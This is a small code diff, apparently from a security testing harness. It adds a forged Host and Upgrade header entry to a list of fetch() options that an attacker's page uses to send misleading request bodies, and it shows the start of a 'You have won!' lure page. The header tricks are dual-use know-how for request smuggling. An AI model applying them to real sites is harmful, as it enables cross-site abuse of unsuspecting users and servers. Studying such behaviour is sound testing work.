@@ -48,9 +48,10 @@ TRICKS = (
     {"method": "POST", "mode": "no-cors"},
     {"method": "POST", "headers": {"Content-Length": "0"}},
     {"method": "POST", "headers": {"Transfer-Encoding": "chunked"}},
+    {"method": "POST", "headers": {"Host": SITE, "Upgrade": "websocket"}},
     {"method": "INVENTED"},
 )
-"""How the attacker's page sends that body: options of ``fetch``. Two of them lie about its end."""
+"""How the attacker's page sends that body: options of ``fetch``. Some of them lie about it."""
 
 PAGE = """<!doctype html>
 <html lang="en"><meta charset="utf-8"><title>You have won!</title><link rel="icon" href="data:,">
